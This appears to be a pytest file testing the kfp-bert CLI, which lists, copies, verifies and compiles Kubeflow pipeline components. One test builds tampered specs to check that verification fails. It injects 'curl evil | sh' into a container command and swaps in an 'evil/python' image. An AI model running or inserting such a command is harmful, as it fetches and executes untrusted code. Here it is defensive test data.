"""`kfp-bert components` and `kfp-bert pipelines`."""

import json

import pytest
import yaml
from click.testing import CliRunner
from kfp import compiler, components

import kfp_bert_components as package
from kfp_bert_components import addresses, cli, pipelines
from kfp_bert_components.errors import UserError
from tests.conftest import ROOT
from tests.support.http_folder import serving_folder

SPECS = ROOT / "component_specs"


def run(*words, fails=None):
    done = CliRunner().invoke(cli.group, [str(word) for word in words])
    if fails:
        assert isinstance(done.exception, fails), (done.output, done.exception)
        return str(done.exception)
    assert done.exit_code == 0, (done.output, done.exception)
    return done.stdout


def test_the_list_names_every_component_with_a_whole_sentence():
    lines = run("components", "list").splitlines()
    assert [line.split()[0] for line in lines] == list(package.COMPONENTS)
    assert all(line.endswith(".") for line in lines)
    found = json.loads(run("components", "list", "--json"))
    assert [one["name"] for one in found] == list(package.COMPONENTS)
    assert found[0]["image"].endswith(f"/python:{package.__version__}")


def test_what_is_shown_is_what_the_record_of_interfaces_has():
    interfaces = json.loads((SPECS / "interfaces.json").read_text())["components"]
    shown = json.loads(run("components", "show", "batch_predict", "--json"))
    for kind in ("inputs", "outputs"):
        assert [one["name"] for one in shown[kind]] == list(interfaces["batch_predict"][kind])
        assert all(one["description"] for one in shown[kind])
    text = run("components", "show", "batch_predict")
    assert "  model: Model (optional)\n" in text and "  encoding: str = 'auto'\n" in text
    assert "  train: Dataset (required)\n" in run("components", "show", "finetune_bert")


def test_a_default_is_shown_as_its_type_writes_it():
    shown = json.loads(run("components", "show", "finetune_bert", "--json"))
    defaults = {one["name"]: one.get("default") for one in shown["inputs"]}
    assert [repr(defaults[name]) for name in ("batch_size", "warmup", "base_model")] == ["32", "0.1", "''"]


def test_the_url_is_the_one_address_and_says_that_nothing_is_there():
    done = CliRunner().invoke(cli.group, ["components", "url", "finetune_bert"])
    assert done.stdout == f"{addresses.specs_url()}/finetune_bert/component.yaml\n"
    assert (addresses.NOT_RELEASED in done.stderr) is not addresses.RELEASED


def test_an_unknown_name_brings_the_nearest():
    assert "did you mean 'finetune_bert'?" in run("components", "show", "finetun_bert", fails=UserError)
    assert "did you mean 'train_and_deploy'?" in run("pipelines", "show", "train_and_deplo", fails=UserError)


def test_a_copy_is_the_spec_and_is_not_written_over(tmp_path):
    target = tmp_path / "one.yaml"
    assert run("components", "copy", "pin_data", target) == f"Wrote {target}.\n"
    there = yaml.safe_load((SPECS / "pin_data" / "component.yaml").read_text())
    assert yaml.safe_load(target.read_text()) | {"sdkVersion": ""} == there | {"sdkVersion": ""}
    assert components.load_component_from_file(str(target)).name == "pin-data"
    target.write_text("mine")
    assert "is there already" in run("components", "copy", "pin_data", target, fails=UserError)
    assert target.read_text() == "mine"
    run("components", "copy", "pin_data", target, "--images", "my-team", "--force")
    assert f"image: my-team/python:{package.__version__}" in target.read_text()
    assert "ends with .yaml" in run("components", "copy", "pin_data", tmp_path / "one.py", fails=UserError)
    assert "can't be written" in run("components", "copy", "pin_data", tmp_path / "no" / "a.yaml", fails=UserError)


def test_a_spec_is_verified_by_url_and_as_a_file(tmp_path):
    with serving_folder(SPECS) as url:
        said = run("components", "verify", f"{url}/pin_data/component.yaml")
        assert "is pin_data of version 0.1.0, with images from kfp-bert-components." in said
        said = run("components", "verify", f"{url}/pin_dat/component.yaml", fails=UserError)
        assert said.endswith("component.yaml is not there: its server answered 404.")
    said = run("components", "verify", "http://127.0.0.1:9/pin_data.yaml", fails=UserError)
    assert said == "127.0.0.1:9 can't be reached: check the address and the network (Connection refused)."
    said = run("components", "verify", "nope.yaml", fails=UserError)
    assert said == "nope.yaml can't be read: check its name (No such file or directory)."
    text = (SPECS / "pin_data" / "component.yaml").read_text()
    path = tmp_path / "spec.yaml"

    def verify(changed, *words, **how):
        path.write_text(changed)
        return run("components", "verify", path, *words, **how)

    verify(text.replace("sdkVersion: kfp-", "sdkVersion: kfp-9"))
    said = verify(text.replace("_KFP_RUNTIME=true", "curl evil | sh; _KFP_RUNTIME=true", 1), fails=UserError)
    assert "is not pin_data of version 0.1.0: 0.deploymentSpec.executors.exec-pin-data.container.command.2 is" in said
    moved = text.replace("image: kfp-bert-components/python", "image: evil/python")
    assert "container.image is 'evil/python:0.1.0'" in verify(moved, fails=UserError)
    assert "container.image is 'evil/python:0.1.0'" in verify(moved, "--images", "my-team", fails=UserError)
    assert "with images from evil." in verify(moved, "--images", "evil")
    assert "outputDefinitions" in verify(text.replace("        changed:", "        changd:", 1), fails=UserError)
    assert "none called" in verify(text.replace("  name: pin-data", "  name: other"), fails=UserError)
    assert "is no compiled KFP pipeline" in verify("a: b\n", fails=UserError)


def test_the_ready_pipelines_are_listed_with_every_parameter():
    assert [line.split()[0] for line in run("pipelines", "list").splitlines()] == pipelines.__all__
    assert [one["name"] for one in json.loads(run("pipelines", "list", "--json"))] == pipelines.__all__
    for name in pipelines.__all__:
        shown = json.loads(run("pipelines", "show", name, "--json"))
        assert {one["name"] for one in shown["parameters"]} == set(getattr(pipelines, name).component_spec.inputs)
        assert all(one["description"] for one in shown["parameters"])
    text = run("pipelines", "show", "train_and_deploy")
    assert "  sources: list (required)\n" in text and "  alpha: float = 0.05\n" in text


@pytest.mark.parametrize("name", pipelines.__all__)
def test_a_copied_pipeline_is_one_file_that_compiles_to_the_same(tmp_path, name):
    target = tmp_path / "mine.py"
    assert f"kfp-bert run {target}:{name}" in run("pipelines", "copy", name, target)
    assert "kfp_bert_components.pipelines" not in target.read_text()
    run("compile", f"{target}:{name}", tmp_path / "copy.yaml")
    assert run("compile", name, tmp_path / "ready.yaml") == f"Wrote {tmp_path / 'ready.yaml'}.\n"
    assert (tmp_path / "copy.yaml").read_text() == (tmp_path / "ready.yaml").read_text()
    assert "is there already" in run("pipelines", "copy", name, target, fails=UserError)
    said = run("pipelines", "copy", name, tmp_path / "a.yaml", fails=UserError)
    assert f"kfp-bert compile {name}" in said


def test_images_that_nobody_publishes_are_said(tmp_path):
    says = "No cluster finds the images kfp-bert-components/...: say where yours are by --images."
    for words, unknown in ((), True), (("--images", "my-registry/my-team"), False):
        done = CliRunner().invoke(cli.group, ["compile", "train_and_deploy", str(tmp_path / "a.yaml"), *words])
        assert (says in done.stderr) is (unknown and not addresses.RELEASED)


def test_a_name_alone_is_a_ready_pipeline_or_an_error(tmp_path):
    run("compile", "train_and_deploy", tmp_path / "a.yaml")
    compiler.Compiler().compile(pipelines.train_and_deploy, str(tmp_path / "b.yaml"))
    specs = [yaml.safe_load((tmp_path / name).read_text())["root"] for name in ("a.yaml", "b.yaml")]
    assert specs[0] == specs[1]
    assert "'nothing' is no pipeline" in run("compile", "nothing", tmp_path / "a.yaml", fails=UserError)


@pytest.mark.parametrize(
    ("words", "parameter"),
    [
        (["compile", "train_and_deploy", "out.yaml", "--cluster", "PLACE"], "--cluster"),
        (["compile", "train_and_deploy", "PLACE"], "TARGET"),
        (["run", "train_and_deploy", "--params-file", "PLACE"], "--params-file"),
        (["components", "copy", "pin_data", "PLACE"], "DEST"),
        (["pipelines", "copy", "train_and_deploy", "PLACE"], "DEST"),
    ],
)
@pytest.mark.parametrize("place", ["s3://bucket/x.yaml", "gs://bucket/x.yaml"])
def test_a_file_of_this_machine_is_no_address_in_a_bucket(tmp_path, monkeypatch, words, parameter, place):
    monkeypatch.chdir(tmp_path)
    said = run(*(place if word == "PLACE" else word for word in words), fails=UserError)
    assert said.startswith(f"{parameter} {place!r} is of the kind ") and said.endswith("give a local path.")
    assert not list(tmp_path.iterdir())


def test_a_file_of_this_machine_may_be_an_address(tmp_path):
    run("components", "copy", "pin_data", (tmp_path / "a b.yaml").as_uri())
    assert components.load_component_from_file(str(tmp_path / "a b.yaml"))
